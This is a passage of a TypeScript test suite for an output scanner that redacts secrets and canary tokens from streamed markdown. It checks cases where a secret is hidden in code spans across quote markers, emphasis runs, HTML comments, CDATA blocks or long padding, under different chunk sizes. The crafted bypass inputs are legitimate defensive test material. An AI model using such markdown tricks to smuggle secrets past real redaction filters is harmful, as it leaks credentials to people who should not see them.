      () => s.end(),
      text,
      size,
    );
  };
  /** [name, text] for a secret: every one renders as the whole secret in markdown-it. */
  type Cases = (k: string) => [string, string][];
  /** Every case is redacted (the canary blocks) whole and in k-character deltas, library and gateway stream alike. */
  const holds = (cases: Cases, sizes: number[]): void => {
    const served: string[] = [];
    for (const k of [TOKEN, CANARY])
      for (const [name, text] of cases(k)) {
        assert.ok(shown(text).includes(k), `markdown-it shows the secret: ${name} ${JSON.stringify(text)}`);
        const r = g.scanOutput(text);
        if (shown(r.text).includes(k) || (k === CANARY && !r.blocked)) served.push(`${k.slice(0, 4)} ${name} whole`);
        for (const size of sizes)
          if (lib(text, size) !== r.text) served.push(`${k.slice(0, 4)} ${name} delta ${size} != whole`);
      }
    const set = new CanarySet([TOKEN]);
    for (const [name, text] of cases(TOKEN)) {
      const whole = gateway(set, text, text.length);
      if (shown(whole).includes(TOKEN)) served.push(`gateway ${name} whole`);
      for (const size of sizes)
        if (gateway(set, text, size) !== whole) served.push(`gateway ${name} delta ${size} != whole`);
    }
    assert.deepEqual(served, []);
  };
  const deltas = Array.from({ length: 20 }, (_, i) => i + 1);

  it('08: a quote after other lines is decided the same whatever the delta boundaries', () => {
    const preludes = ['Here is the answer:\n', 'Intro paragraph.\n\n', 'Line one\nline two\n', 'x\r\n', 'x\r', ''];
    holds(
      (k) =>
        preludes.flatMap((pre): [string, string][] => [
          [`${JSON.stringify(pre)} span`, `${pre}> ${ins(k, '`\n> ', '\n> `')} end`],
          [`${JSON.stringify(pre)} lazy`, `${pre}> ${ins(k, '`\n', '\n> `')} end`],
          [`${JSON.stringify(pre)} stars`, `${pre}> key ${ins(k, '****', '')} is\n> the end**** ok`],
        ]),
      deltas,
    ); // before: served at 3, 4, 5, 7, 8, 10-19-character deltas (whole held)
  });

  it('02 and 06: every construct glued in a token joins it, and its aside waits for the token end', () => {
    const letters = 'abcdefghijklmnopqrstuvwxyz'.repeat(8).slice(0, 200);
    const glued: [string, string][] = [
      ['<?', '?>'],
      ['<!--', '-->'],
      ['<!X', '>'],
      ['<![CDATA[', ']]>'],
    ];
    holds(
      (k) => [
        // 02: five constructs of 200 letters before the secret fill the aside (1024 characters before)
        ...glued.map(([a, b]): [string, string] => [
          `02 ${a}`,
          `v: ${`x${a}${letters}${b}`.repeat(5)}x${ins(k, `${a}abcdefgh${b}`, '')} end`,
        ]),
        // 06: the secret starts just before MAX_ASIDE_RUN past a construct (shown there before)
        ...[990, 1000, 1010, 1020].flatMap((pad): [string, string][] => [
          [`06 <? ${pad}`, `v: x<?abcdefghij?>${'y'.repeat(pad)}${k} end`],
          [`06 <!-- ${pad}`, `v: x<!--abcdefghij-->${'y'.repeat(pad)}${k} end`],
        ]),
      ],
      [1, 3, 7],
    ); // before: 02 8 library + 4 gateway, 06 the GH and gateway pads served
  });

  it('an aside waits at most MAX_ASIDE_RUN past its first construct: the holdback stays bounded', () => {
    const held = (text: string): number => {
      const s = g.streamOutput();
      let out = '';
      let most = 0;
      for (let i = 0; i < text.length; i += 4096) {
        out += s.push(text.slice(i, i + 4096)).text;
        most = Math.max(most, s.held);
      }
      assert.equal(out + s.end().text, g.scanOutput(text).text);
      return most;
    };
    const run = 'y'.repeat(3 * MAX_ASIDE_RUN);
    const most = held(`v: x<?abcdefghij?>${run} end`);
    assert.ok(most <= held(`v: x${run} end`) + MAX_ASIDE_RUN + 4096, `held ${most}`);
  });

  it('07: a line of 3+ backticks with a backtick after them is no fence: its run closes a span', () => {
    holds(
      (k) => [
        ['``` mid line', `key ${ins(k, '```\n', '\n```')}\` end`],
        ['```` mid line', `key ${ins(k, '````\n', '\n````')}\` end`],
        ['``` later span', `key ${ins(k, '```\n', '\n```')} \`x\``],
        ['``` in a quote', `> key ${ins(k, '```\n> ', '\n> ```')}\` end`],
        ['``` far', `key ${ins(k, '```\n', '\n```')} ${'word '.repeat(8)}\` end`],
      ],
      [1, 3, 7],
    ); // before: all served, whole and streamed, library and gateway
    // a fence whose info string holds no backtick still ends the paragraph: the span does not pair across it
    for (const text of ['see `x\n```js\ncode\n```\nand `y` end', 'a ``` b\n```\nx ``` c\n```']) {
      assert.equal(g.scanOutput(text).text, text);
      for (const size of [1, 3, 7]) assert.equal(lib(text, size), text);
    }
  });

  it('01: a code span across nested, indented and list-item quote markers', () => {
    holds(
      (k) =>
        ['\n', '\r\n'].flatMap((nl): [string, string][] => [
          [`${JSON.stringify(nl)} > >`, `> > ${ins(k, `\`${nl}> > `, `${nl}> > \``)} end`],
          [`${JSON.stringify(nl)} >>`, `>> ${ins(k, `\`${nl}>> `, `${nl}>> \``)} end`],
          [`${JSON.stringify(nl)} > > lazy`, `> > ${ins(k, `\`${nl}> `, `${nl}> > \``)} end`],
          [`${JSON.stringify(nl)} indented`, `  > ${ins(k, `\`${nl}  > `, `${nl}  > \``)} end`],
          [`${JSON.stringify(nl)} list item`, `- > ${ins(k, `\`${nl}  > `, `${nl}  > \``)} end`],
          [`${JSON.stringify(nl)} after a line`, `Here:${nl}> > ${ins(k, `\`${nl}> > `, `${nl}> > \``)} end`],
          [`${JSON.stringify(nl)} > > stars`, `> > key ${ins(k, '****', '')}${nl}> > more**** ok`],
          [
            `${JSON.stringify(nl)} 40 levels`,
            `${'> '.repeat(40)}${ins(k, `\`${nl}${'> '.repeat(40)}`, `${nl}${'> '.repeat(40)}\``)} end`,
          ],
        ]),
      [1, 3, 7],
    ); // before: every one served whole (library and gateway)
  });

  it('05: an emphasis run pairs across every line markdown-it reads as the same paragraph', () => {
    const lines = [
      '(see notes)',
      '"quoted" line',
      '#tag here',
      '<span>x</span> y',
      '[ref] text',
      ',comma',
      '2. second',
    ];
    const more = ['+ ', '|x', '~x', '!x', '@user', '$var', '&amp; x', "'q'", '-x', '=x', '  (indented)'];
    holds(
      (k) =>
        ['****', '*****', '~~~~'].flatMap((run) =>
          [...lines, ...more].map((l): [string, string] => [
            `${run} ${JSON.stringify(l)}`,
            `key ${ins(k, run, '')} is\n${l}\nthe end${run} ok`,
          ]),
        ),
      [1, 3, 7],
    ); // before: every `****` / `*****` one served (library and gateway), `~~~~` by the gateway
    // a mask before a line markdown-it ends the paragraph with stays a mask
    for (const l of ['', '# Head', '> quote', '- item', '1. first', '```', '~~~', '---', '***', '<!-- c -->', '=='])
      for (const text of [`Stripe key sk_live_${'*'.repeat(16)}4242 (masked).\n${l}\nNext **bold** here.`]) {
        assert.ok(shown(text).includes('*'.repeat(16)), `markdown-it shows the mask: ${JSON.stringify(l)}`);
        assert.equal(g.scanOutput(text).text, text, JSON.stringify(l));
        for (const size of [1, 3, 7]) assert.equal(lib(text, size), text, `${JSON.stringify(l)} delta ${size}`);
      }
  });

  it('a secret inside a construct glued in a token is still read once the token ends, however many came before', () => {
    const filler = '<?abcdefghijklmnopqrstuvwxyz?>x'.repeat(60);
    const text = `v: x${filler}<?${TOKEN}?>y and more`;
    const r = g.scanOutput(text);
    assert.ok(!r.text.includes(TOKEN), r.text.slice(-120));
    for (const size of [1, 3, 7]) assert.equal(lib(text, size), r.text, `delta ${size}`);
    const set = new CanarySet([TOKEN]);
    assert.ok(!gateway(set, text, text.length).includes(TOKEN));
    assert.equal(gateway(set, text, 3), gateway(set, text, text.length));
  });
});
